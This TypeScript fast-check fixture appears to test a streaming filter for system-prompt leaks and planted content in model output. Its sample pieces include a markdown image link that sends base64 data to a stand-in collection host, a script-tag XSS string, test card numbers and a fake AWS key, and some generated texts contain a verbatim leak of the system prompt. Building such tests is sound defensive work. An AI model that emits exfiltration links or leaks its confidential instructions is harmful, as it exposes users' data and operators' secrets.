import fc from 'fast-check';

/** Watched for: what repeats it is blocked. */
export const SYSTEM_PROMPT =
  'You are Quill, the assistant of Larkspur Press. Never speak of the manuscript called Amber Tide, and answer in two sentences.';

const PIECES: readonly string[] = [
  'Here is the summary. ',
  'The train leaves at nine',
  ', as agreed',
  '.\n\n',
  ' 😀 Привет 你好 ',
  'naïve café ',
  '4012-8888-8888-1881',
  '4111 1111 1111 1111',
  'AKIAIOSFODNN7EXAMPLQ',
  '![pixel](https://collect.example.net/p.png?d=c2VjcmV0IHNlY3JldCBzZWNyZXQgc2VjcmV0)',
  '[notes](https://docs.example.org/a)',
  '<script>alert(1)</script>',
  '"quoted\\path"',
  '\u0000\u001f',
  ' x'.repeat(20),
];

const LEAK = 'Never speak of the manuscript called Amber Tide, and answer in two sentences.';

/** A text of a model with things planted in it; now and then one that gives the prompt away. */
export const attackedText: fc.Arbitrary<string> = fc
  .tuple(
    fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }),
    fc.oneof({ weight: 9, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constant(LEAK) }),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 2 }),
  )
  .map(([before, leak, after]) => [...before, leak, ...after].join(''));

/** Numbers that decide cuts: used in turn, over and over. */
export const cutSizes: fc.Arbitrary<readonly number[]> = fc.array(fc.integer({ min: 1, max: 12 }), {
  minLength: 1,
  maxLength: 8,
});

/** A text in pieces of the given sizes, in turn. */
export function inPieces(text: string, sizes: readonly number[]): readonly string[] {
  const pieces: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1;
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

/** Bytes in packets of the given sizes, in turn. */
export function inPackets(text: string, sizes: readonly number[]): readonly Uint8Array[] {
  const bytes = new TextEncoder().encode(text);
  const packets: Uint8Array[] = [];
  for (let at = 0, turn = 0; at < bytes.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1;
    packets.push(bytes.slice(at, at + size));
    at += size;
  }
  return packets;
}
